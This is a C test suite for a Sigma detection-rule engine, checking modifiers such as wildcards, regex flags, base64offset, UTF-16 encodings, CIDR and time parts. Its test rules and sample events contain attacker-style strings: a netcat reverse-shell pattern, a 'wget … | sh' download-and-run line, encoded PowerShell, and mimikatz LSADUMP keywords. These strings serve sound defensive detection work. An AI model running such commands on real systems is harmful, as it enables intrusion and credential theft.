/* Sigma modifiers appendix v2.1, one behaviour per test; every case runs
 * on the direct path and through the Hyperscan prefilter (hits_of). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "detect_fixture.h"
#include "fixtures.h"

static void test_plain_value_is_case_insensitive_equality(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    Image: /usr/bin/BASH\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"Image\":\"/usr/bin/bash\"}"), 1);
    assert_int_equal(hits_of(r, "{\"Image\":\"/usr/bin/bash2\"}"), 0);
    assert_int_equal(hits_of(r, "{\"Other\":\"/usr/bin/bash\"}"), 0);
}

static void test_star_and_question_mark_wildcards(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    Image: '/usr/*/ba?h'\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"Image\":\"/usr/local/bin/bash\"}"), 1);
    assert_int_equal(hits_of(r, "{\"Image\":\"/usr/bin/bsh\"}"), 0);
    assert_int_equal(hits_of(r, "{\"Image\":\"/usr/bin/basher\"}"), 0);
}

static void test_escaped_wildcard_is_literal(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    CommandLine: 'a\\*b'\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"a*b\"}"), 1);
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"axxb\"}"), 0);
}

static void test_escaped_backslash_before_wildcard(void **state) {
    (void)state;
    /* spec: '\\*' is a backslash followed by a wildcard */
    const char *r = RULE("  sel:\n    Path: 'C:\\\\*'\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"Path\":\"C:\\\\Windows\"}"), 1);
    assert_int_equal(hits_of(r, "{\"Path\":\"C:Windows\"}"), 0);
}

static void test_plain_backslash_needs_no_escape(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    Path: 'C:\\Windows\\cmd.exe'\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"Path\":\"c:\\\\windows\\\\CMD.exe\"}"), 1);
}

static void test_contains_startswith_endswith(void **state) {
    (void)state;
    const char *r = RULE("  a:\n    CommandLine|contains: 'wget '\n"
                         "  b:\n    CommandLine|startswith: 'curl'\n"
                         "  c:\n    CommandLine|endswith: '| sh'\n"
                         "  condition: a and b and c\n");
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"curl x; WGET http://e/x | sh\"}"), 1);
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"x curl wget http://e/x | sh\"}"), 0);
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"curl wget http://e/x | sh -\"}"), 0);
}

static void test_list_is_or_and_all_makes_it_and(void **state) {
    (void)state;
    const char *any = RULE("  sel:\n    CommandLine|contains: [alpha, beta]\n  condition: sel\n");
    const char *all = RULE("  sel:\n    CommandLine|contains|all: [alpha, beta]\n  condition: sel\n");
    assert_int_equal(hits_of(any, "{\"CommandLine\":\"beta\"}"), 1);
    assert_int_equal(hits_of(all, "{\"CommandLine\":\"beta\"}"), 0);
    assert_int_equal(hits_of(all, "{\"CommandLine\":\"beta alpha\"}"), 1);
}

static void test_re_is_case_sensitive_unless_i(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    CommandLine|re: 'nc -e /bin/(ba)?sh'\n  condition: sel\n");
    const char *ri = RULE("  sel:\n    CommandLine|re|i: 'nc -e /bin/(ba)?sh'\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"x nc -e /bin/sh\"}"), 1);
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"x NC -e /bin/sh\"}"), 0);
    assert_int_equal(hits_of(ri, "{\"CommandLine\":\"x NC -e /bin/sh\"}"), 1);
}

static void test_re_m_and_s_submodifiers(void **state) {
    (void)state;
    const char *m = RULE("  sel:\n    Message|re|m: '^second$'\n  condition: sel\n");
    const char *plain = RULE("  sel:\n    Message|re: '^second$'\n  condition: sel\n");
    const char *s = RULE("  sel:\n    Message|re|s: 'first.second'\n  condition: sel\n");
    const char *ev = "{\"Message\":\"first\\nsecond\\nthird\"}";
    assert_int_equal(hits_of(m, ev), 1);
    assert_int_equal(hits_of(plain, ev), 0);
    assert_int_equal(hits_of(s, ev), 1);
}

static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

static void base64(const unsigned char *in, size_t len, char *out) {
    size_t j = 0;
    for (size_t i = 0; i < len; i += 3) {
        unsigned v = (unsigned)in[i] << 16 | (i + 1 < len ? (unsigned)in[i + 1] << 8 : 0) |
                     (i + 2 < len ? in[i + 2] : 0);
        out[j++] = b64[(v >> 18) & 63];
        out[j++] = b64[(v >> 12) & 63];
        out[j++] = i + 1 < len ? b64[(v >> 6) & 63] : '=';
        out[j++] = i + 2 < len ? b64[v & 63] : '=';
    }
    out[j] = '\0';
}

static void test_base64_encodes_the_whole_value(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    CommandLine|base64: 'foo'\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"Zm9v\"}"), 1);
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"Zm9vYg==\"}"), 0);
}

static void test_base64offset_matches_all_three_alignments(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    CommandLine|base64offset|contains: 'whoami'\n  condition: sel\n");
    const char *prefixes[] = {"", "a", "ab", "abc", "abcd"};
    const char *suffixes[] = {"", "x", "xy"};
    for (size_t p = 0; p < 5; p++) {
        for (size_t s = 0; s < 3; s++) {
            char plain[64], enc[128], json[200];
            snprintf(plain, sizeof plain, "%swhoami%s", prefixes[p], suffixes[s]);
            base64((const unsigned char *)plain, strlen(plain), enc);
            snprintf(json, sizeof json, "{\"CommandLine\":\"powershell -e %s\"}", enc);
            assert_int_equal(hits_of(r, json), 1);
        }
    }
    char enc[64], json[128];
    base64((const unsigned char *)"who are you", 11, enc);
    snprintf(json, sizeof json, "{\"CommandLine\":\"%s\"}", enc);
    assert_int_equal(hits_of(r, json), 0);
}

static void test_utf16le_then_base64offset(void **state) {
    (void)state;
    const char *wide = RULE("  sel:\n    CommandLine|wide|base64offset|contains: 'cmd'\n  condition: sel\n");
    const char *le = RULE("  sel:\n    CommandLine|utf16le|base64offset|contains: 'cmd'\n  condition: sel\n");
    const unsigned char text[] = {'r', 0, 'u', 0, 'n', 0, ' ', 0, 'c', 0, 'm', 0, 'd', 0, '!', 0};
    char enc[64], json[128];
    base64(text, sizeof text, enc);
    snprintf(json, sizeof json, "{\"CommandLine\":\"%s\"}", enc);
    assert_int_equal(hits_of(wide, json), 1);
    assert_int_equal(hits_of(le, json), 1);
}

static void test_utf16be_and_utf16_with_bom(void **state) {
    (void)state;
    const char *be = RULE("  sel:\n    Data|utf16be|base64: 'cmd'\n  condition: sel\n");
    const char *bom = RULE("  sel:\n    Data|utf16|base64: 'cmd'\n  condition: sel\n");
    const unsigned char be_text[] = {0, 'c', 0, 'm', 0, 'd'};
    const unsigned char bom_text[] = {0xff, 0xfe, 'c', 0, 'm', 0, 'd', 0};
    char enc[64], json[128];
    base64(be_text, sizeof be_text, enc);
    snprintf(json, sizeof json, "{\"Data\":\"%s\"}", enc);
    assert_int_equal(hits_of(be, json), 1);
    base64(bom_text, sizeof bom_text, enc);
    snprintf(json, sizeof json, "{\"Data\":\"%s\"}", enc);
    assert_int_equal(hits_of(bom, json), 1);
    assert_int_equal(hits_of(be, json), 0);
}

static void test_windash_accepts_every_dash(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"ps -enc AAA\"}"), 1);
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"ps /enc AAA\"}"), 1);
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"ps \u2013enc AAA\"}"), 1); /* en dash */
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"ps \u2014enc AAA\"}"), 1); /* em dash */
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"ps \u2015enc AAA\"}"), 1); /* bar */
    assert_int_equal(hits_of(r, "{\"CommandLine\":\"ps +enc AAA\"}"), 0);
}

static void test_cidr_ipv4_and_ipv6(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    DestinationIp|cidr: ['10.0.0.0/8', 'fe80::/10']\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"DestinationIp\":\"10.200.3.4\"}"), 1);
    assert_int_equal(hits_of(r, "{\"DestinationIp\":\"11.0.0.1\"}"), 0);
    assert_int_equal(hits_of(r, "{\"DestinationIp\":\"fe80::1\"}"), 1);
    assert_int_equal(hits_of(r, "{\"DestinationIp\":\"2001:db8::1\"}"), 0);
    assert_int_equal(hits_of(r, "{\"DestinationIp\":\"not an ip\"}"), 0);
}

static void test_numeric_comparisons(void **state) {
    (void)state;
    const char *r = RULE("  a:\n    Size|gt: 100\n  b:\n    Size|lte: 200\n  condition: a and b\n");
    assert_int_equal(hits_of(r, "{\"Size\":150}"), 1);
    assert_int_equal(hits_of(r, "{\"Size\":100}"), 0);
    assert_int_equal(hits_of(r, "{\"Size\":\"200\"}"), 1);
    assert_int_equal(hits_of(r, "{\"Size\":201}"), 0);
    assert_int_equal(hits_of(r, "{\"Size\":\"big\"}"), 0);
    const char *lt = RULE("  a:\n    Size|lt: 5\n  b:\n    Size|gte: 1\n  condition: a and b\n");
    assert_int_equal(hits_of(lt, "{\"Size\":1}"), 1);
    assert_int_equal(hits_of(lt, "{\"Size\":5}"), 0);
}

static void test_exists_true_and_false(void **state) {
    (void)state;
    const char *yes = RULE("  sel:\n    Pid|exists: true\n  condition: sel\n");
    const char *no = RULE("  sel:\n    Pid|exists: false\n  condition: sel\n");
    assert_int_equal(hits_of(yes, "{\"Pid\":1}"), 1);
    assert_int_equal(hits_of(yes, "{\"Pid\":null}"), 1); /* presence, not value */
    assert_int_equal(hits_of(yes, "{\"Other\":1}"), 0);
    assert_int_equal(hits_of(no, "{\"Other\":1}"), 1);
}

static void test_cased_is_case_sensitive(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    Image|cased|endswith: /Bash\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"Image\":\"/usr/bin/Bash\"}"), 1);
    assert_int_equal(hits_of(r, "{\"Image\":\"/usr/bin/bash\"}"), 0);
}

static void test_fieldref_compares_two_fields(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    TargetUser|fieldref: SubjectUser\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"TargetUser\":\"Alice\",\"SubjectUser\":\"alice\"}"), 1);
    assert_int_equal(hits_of(r, "{\"TargetUser\":\"alice\",\"SubjectUser\":\"bob\"}"), 0);
    const char *neq = RULE("  sel:\n    TargetUser|fieldref|neq: SubjectUser\n  condition: sel\n");
    assert_int_equal(hits_of(neq, "{\"TargetUser\":\"alice\",\"SubjectUser\":\"bob\"}"), 1);
}

static void test_neq_needs_the_field_and_a_different_value(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    User|neq: [root, daemon]\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"User\":\"alice\"}"), 1);
    assert_int_equal(hits_of(r, "{\"User\":\"ROOT\"}"), 0);
    assert_int_equal(hits_of(r, "{\"User\":\"daemon\"}"), 0);
    assert_int_equal(hits_of(r, "{\"Other\":\"x\"}"), 0);
}

static void test_null_and_empty_values(void **state) {
    (void)state;
    const char *null_rule = RULE("  sel:\n    ParentImage: null\n  condition: sel\n");
    const char *empty_rule = RULE("  sel:\n    ParentImage: ''\n  condition: sel\n");
    assert_int_equal(hits_of(null_rule, "{\"Image\":\"x\"}"), 1);
    assert_int_equal(hits_of(null_rule, "{\"ParentImage\":null}"), 1);
    assert_int_equal(hits_of(null_rule, "{\"ParentImage\":\"\"}"), 0);
    assert_int_equal(hits_of(empty_rule, "{\"ParentImage\":\"\"}"), 1);
    assert_int_equal(hits_of(empty_rule, "{\"Image\":\"x\"}"), 0);
}

static void test_keywords_search_every_field(void **state) {
    (void)state;
    const char *r = RULE("  keywords:\n    - 'event::clear'\n    - 'lsadump'\n  condition: keywords\n");
    assert_int_equal(hits_of(r, "{\"A\":\"x\",\"Message\":\"mimikatz LSADUMP::sam\"}"), 1);
    assert_int_equal(hits_of(r, "{\"Message\":\"nothing\"}"), 0);
    const char *all = RULE("  keywords:\n    '|all':\n      - 'OabVirtualDirectory'\n      - ' -ExternalUrl '\n"
                           "  condition: keywords\n");
    assert_int_equal(hits_of(all, "{\"M\":\"Set-OabVirtualDirectory -ExternalUrl x\"}"), 1);
    assert_int_equal(hits_of(all, "{\"M\":\"Set-OabVirtualDirectory\"}"), 0);
}

/* The prefilter scans keyword literals once over all values laid end to
 * end: a keyword must still lie within one value, however the values sit. */
static void test_keywords_never_straddle_two_values(void **state) {
    (void)state;
    /* "clear\nlog" holds the byte that separates values in the joined scan */
    const char *r = RULE("  keywords:\n    - \"clear\\nlog\"\n    - 'evil'\n  condition: keywords\n");
    assert_int_equal(hits_of(r, "{\"A\":\"event-clear\",\"B\":\"log\"}"), 0);
    assert_int_equal(hits_of(r, "{\"A\":\"ev\",\"B\":\"il\"}"), 0);
    assert_int_equal(hits_of(r, "{\"A\":\"ev\",\"B\":\"il\",\"C\":\"so evil\"}"), 1);
    assert_int_equal(hits_of(r, "{\"A\":\"x\",\"B\":\"clear\\nlog\"}"), 1);
    assert_int_equal(hits_of(r, "{\"A\":[\"ev\",\"il\"],\"B\":null,\"C\":\"EVIL\"}"), 1);
}

/* The prefilter frames each value with 0xff bytes (never in UTF-8); an
 * event whose value holds one anyway is still answered exactly. */
static void test_values_holding_0xff_match_exactly(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    Image|endswith: '/evil'\n  kw:\n    - 'bad*word'\n"
                         "  condition: sel or kw\n");
    assert_int_equal(hits_of(r, "{\"Image\":\"/x\xff/evil\"}"), 1);
    assert_int_equal(hits_of(r, "{\"Image\":\"/evil\xff\"}"), 0);
    assert_int_equal(hits_of(r, "{\"A\":\"bad\xffword\"}"), 1);
    assert_int_equal(hits_of(r, "{\"A\":\"bad\",\"B\":\"word\"}"), 0);
    assert_int_equal(hits_of(r, "{\"A\":\"bad\",\"B\":\"wordy\",\"Image\":\"/evil\"}"), 1);
}

/* A field with very many literals gets a database of its own from
 * Hyperscan's literal compiler: same answers for every shape. */
static void test_fields_with_very_many_literals(void **state) {
    (void)state;
    hae_buf y = {0};
    assert_int_equal(hae_buf_append_str(&y, RULE("  sel:\n    Image|endswith:\n")), HAE_OK);
    for (int i = 0; i < 1500; i++) assert_int_equal(hae_buf_printf(&y, "      - '/bin%d'\n", i), HAE_OK);
    assert_int_equal(hae_buf_append_str(&y, "  eq:\n    User:\n"), HAE_OK);
    for (int i = 0; i < 1500; i++) assert_int_equal(hae_buf_printf(&y, "      - 'u%d'\n", i), HAE_OK);
    assert_int_equal(hae_buf_append_str(&y, "  condition: sel or eq\n"), HAE_OK);
    assert_int_equal(hits_of(y.data, "{\"Image\":\"/usr/BIN1499\"}"), 1);
    assert_int_equal(hits_of(y.data, "{\"Image\":\"/usr/bin1499x\"}"), 0);
    assert_int_equal(hits_of(y.data, "{\"User\":\"U7\"}"), 1);
    assert_int_equal(hits_of(y.data, "{\"User\":\"u7x\",\"X\":\"u7\"}"), 0);
    assert_int_equal(hits_of(y.data, "{\"User\":\"xu7\"}"), 0);
    hae_buf_free(&y);
}

/* The prefilter compares logsource as ids per kind of event: the same
 * answers as the reference (case-insensitive; only attributes both declare
 * rule a rule out), for prefiltered and always-evaluated rules alike. */
static void test_logsource_rules_out_only_declared_differences(void **state) {
    (void)state;
    const char *rules[] = {RULE("  sel:\n    Image|endswith: '/evil'\n  condition: sel\n"),
                           RULE("  sel:\n    Image|endswith: '/ev?l'\n  condition: sel\n")};
    for (size_t i = 0; i < 2; i++) {
        const char *r = rules[i];
        assert_int_equal(hits_of(r, "{\"logsource\":{\"product\":\"LINUX\",\"category\":"
                                    "\"Process_Creation\"},\"Image\":\"/evil\"}"), 1);
        assert_int_equal(hits_of(r, "{\"logsource\":{\"product\":\"linux\",\"category\":"
                                    "\"file_event\"},\"Image\":\"/evil\"}"), 0);
        assert_int_equal(hits_of(r, "{\"logsource\":{\"product\":\"linux\",\"category\":"
                                    "\"no_rule_names_this\"},\"Image\":\"/evil\"}"), 0);
        assert_int_equal(hits_of(r, "{\"logsource\":{\"product\":\"windows\"},\"Image\":\"/evil\"}"), 0);
        assert_int_equal(hits_of(r, "{\"logsource\":{\"service\":\"auditd\"},\"Image\":\"/evil\"}"), 1);
        assert_int_equal(hits_of(r, "{\"Image\":\"/evil\"}"), 1);
    }
}

/* The prefilter makes a rule a candidate only when a pattern it cannot
 * hold without fires (one group of an `all` leaf, one kid of an AND, every
 * kid of an OR or N of M that cannot fire alone): same answers as the
 * reference in every shape. */
static void test_rules_wait_for_the_patterns_they_need(void **state) {
    (void)state;
    const char *kw = RULE("  kw:\n    '|all':\n      - 'dd'\n      - 'if='\n      - 'of='\n"
                          "  sel:\n    Image|endswith: '/dd'\n  condition: kw or sel\n");
    assert_int_equal(hits_of(kw, "{\"A\":\"dd if=/dev/zero of=/tmp/x\"}"), 1);
    assert_int_equal(hits_of(kw, "{\"A\":\"dd of=/x\",\"B\":\"if=y\"}"), 1);
    assert_int_equal(hits_of(kw, "{\"A\":\"dd of=/x\"}"), 0);
    assert_int_equal(hits_of(kw, "{\"Image\":\"/bin/dd\"}"), 1);
    const char *nested = RULE("  a:\n    A|contains: 'x'\n  b:\n    B|contains: 'longer-pattern'\n"
                              "  c:\n    C: 'z'\n  condition: a and (b or c)\n");
    assert_int_equal(hits_of(nested, "{\"A\":\"x\",\"C\":\"z\"}"), 1);
    assert_int_equal(hits_of(nested, "{\"A\":\"x\",\"B\":\"a-longer-pattern\"}"), 1);
    assert_int_equal(hits_of(nested, "{\"B\":\"longer-pattern\",\"C\":\"z\"}"), 0);
    const char *two = RULE("  sel1:\n    A: 'a'\n  sel2:\n    B: 'bbbbbb'\n  sel3:\n    C: 'c'\n"
                           "  condition: 2 of sel*\n");
    assert_int_equal(hits_of(two, "{\"A\":\"a\",\"C\":\"c\"}"), 1);
    assert_int_equal(hits_of(two, "{\"B\":\"bbbbbb\",\"C\":\"c\"}"), 1);
    assert_int_equal(hits_of(two, "{\"A\":\"a\"}"), 0);
}

/* One-byte "contains" literals are answered by memchr beside Hyperscan:
 * case folding, cased, keywords over every value and single fields alike. */
static void test_one_byte_literals(void **state) {
    (void)state;
    const char *kw = RULE("  kw:\n    - 'x'\n  condition: kw\n");
    assert_int_equal(hits_of(kw, "{\"A\":\"abc\",\"B\":\"ABX\"}"), 1);
    assert_int_equal(hits_of(kw, "{\"A\":\"abc\",\"B\":null}"), 0);
    const char *cased = RULE("  sel:\n    A|contains|cased: 'Q'\n  condition: sel\n");
    assert_int_equal(hits_of(cased, "{\"A\":\"aQ\"}"), 1);
    assert_int_equal(hits_of(cased, "{\"A\":\"aq\",\"B\":\"Q\"}"), 0);
    const char *folded = RULE("  sel:\n    A|contains: 'q'\n    B|contains: '7'\n  condition: sel\n");
    assert_int_equal(hits_of(folded, "{\"A\":\"Q\",\"B\":1977}"), 1);
    assert_int_equal(hits_of(folded, "{\"A\":\"Q\",\"B\":1988}"), 0);
}

static void test_time_part_modifiers(void **state) {
    (void)state;
    const char *r = RULE("  night:\n    AuthTime|hour|gte: 22\n  condition: night\n");
    assert_int_equal(hits_of(r, "{\"AuthTime\":\"2025-04-19T23:10:00Z\"}"), 1);
    assert_int_equal(hits_of(r, "{\"AuthTime\":\"2025-04-19T13:10:00Z\"}"), 0);
    const char *month = RULE("  sel:\n    AuthTime|month: 4\n  condition: sel\n");
    assert_int_equal(hits_of(month, "{\"AuthTime\":\"2025-04-19 13:10:00\"}"), 1);
}

/* `timezone:` makes the parts local to that zone; 17:10 UTC is 02:10 in Seoul. */
static void test_time_parts_in_the_rules_zone(void **state) {
    (void)state;
    static const char seoul[] =
        "title: t\nid: 9a0c3f04-5b7e-4c1d-8e2f-000000000001\ntimezone: Asia/Seoul\n"
        "detection:\n  night:\n    AuthTime|hour|lte: 4\n  condition: night\n";
    assert_int_equal(hits_of(seoul, "{\"AuthTime\":\"2025-04-19T17:10:00Z\"}"), 1);
    assert_int_equal(hits_of(seoul, "{\"AuthTime\":\"2025-04-19T02:10:00Z\"}"), 0);
    const char *utc = RULE("  night:\n    AuthTime|hour|lte: 4\n  condition: night\n");
    assert_int_equal(hits_of(utc, "{\"AuthTime\":\"2025-04-19T17:10:00Z\"}"), 0);
    static const char day[] =
        "title: t\nid: 9a0c3f04-5b7e-4c1d-8e2f-000000000002\ntimezone: Asia/Seoul\n"
        "detection:\n  sel:\n    AuthTime|day: 20\n  condition: sel\n";
    assert_int_equal(hits_of(day, "{\"AuthTime\":\"2025-04-19T17:10:00Z\"}"), 1);
    static const char bad[] =
        "title: t\nid: 9a0c3f04-5b7e-4c1d-8e2f-000000000003\ntimezone: Asia/Atlantis\n"
        "detection:\n  sel:\n    AuthTime|hour: 1\n  condition: sel\n";
    char reason[256];
    assert_int_equal(load_status(bad, reason, sizeof reason), DETECT_RULE_INVALID);
    if (!strstr(reason, "timezone: time zone 'Asia/Atlantis'")) fail_msg("reason: %s", reason);
}

static void test_repeated_field_matches_any_value(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    Tags: evil\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"Tags\":[\"good\",\"EVIL\"]}"), 1);
    assert_int_equal(hits_of(r, "{\"Tags\":[\"good\",\"bad\"]}"), 0);
}

static void test_numbers_and_booleans_compare_as_text(void **state) {
    (void)state;
    const char *r = RULE("  sel:\n    EventID: [4688, 1]\n    Success: true\n  condition: sel\n");
    assert_int_equal(hits_of(r, "{\"EventID\":4688,\"Success\":true}"), 1);
    assert_int_equal(hits_of(r, "{\"EventID\":\"1\",\"Success\":\"True\"}"), 1);
    assert_int_equal(hits_of(r, "{\"EventID\":46880,\"Success\":true}"), 0);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_value_is_case_insensitive_equality),
        cmocka_unit_test(test_star_and_question_mark_wildcards),
        cmocka_unit_test(test_escaped_wildcard_is_literal),
        cmocka_unit_test(test_escaped_backslash_before_wildcard),
        cmocka_unit_test(test_plain_backslash_needs_no_escape),
        cmocka_unit_test(test_contains_startswith_endswith),
        cmocka_unit_test(test_list_is_or_and_all_makes_it_and),
        cmocka_unit_test(test_re_is_case_sensitive_unless_i),
        cmocka_unit_test(test_re_m_and_s_submodifiers),
        cmocka_unit_test(test_base64_encodes_the_whole_value),
        cmocka_unit_test(test_base64offset_matches_all_three_alignments),
        cmocka_unit_test(test_utf16le_then_base64offset),
        cmocka_unit_test(test_utf16be_and_utf16_with_bom),
        cmocka_unit_test(test_windash_accepts_every_dash),
        cmocka_unit_test(test_cidr_ipv4_and_ipv6),
        cmocka_unit_test(test_numeric_comparisons),
        cmocka_unit_test(test_exists_true_and_false),
        cmocka_unit_test(test_cased_is_case_sensitive),
        cmocka_unit_test(test_fieldref_compares_two_fields),
        cmocka_unit_test(test_neq_needs_the_field_and_a_different_value),
        cmocka_unit_test(test_null_and_empty_values),
        cmocka_unit_test(test_keywords_search_every_field),
        cmocka_unit_test(test_keywords_never_straddle_two_values),
        cmocka_unit_test(test_values_holding_0xff_match_exactly),
        cmocka_unit_test(test_fields_with_very_many_literals),
        cmocka_unit_test(test_logsource_rules_out_only_declared_differences),
        cmocka_unit_test(test_rules_wait_for_the_patterns_they_need),
        cmocka_unit_test(test_one_byte_literals),
        cmocka_unit_test(test_time_part_modifiers),
        cmocka_unit_test(test_time_parts_in_the_rules_zone),
        cmocka_unit_test(test_repeated_field_matches_any_value),
        cmocka_unit_test(test_numbers_and_booleans_compare_as_text),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
